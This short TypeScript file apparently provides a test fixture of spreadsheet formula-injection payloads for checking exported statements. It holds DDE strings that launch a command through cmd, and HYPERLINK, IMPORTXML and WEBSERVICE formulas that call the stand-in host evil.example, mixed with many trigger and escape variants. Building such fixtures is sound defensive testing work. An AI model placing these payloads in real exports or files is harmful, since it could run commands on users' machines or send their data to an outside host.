const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|', '%', "'="];
const acts = ['1+1', "cmd|'/c calc'!A0", 'HYPERLINK("//evil.example","x")'];

/** Text that a spreadsheet would carry out when a statement is opened in it. */
export const formulas: readonly string[] = [
  ...triggers.flatMap(trigger => acts.map(act => `${trigger}${act}`)),
  ...[
    '=IMPORTXML("//evil.example","//a")',
    '=WEBSERVICE("//evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '","=1+1',
    '"\n=1+1',
    '";=1+1;"',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    'DDE("cmd","/c calc")',
  ],
];
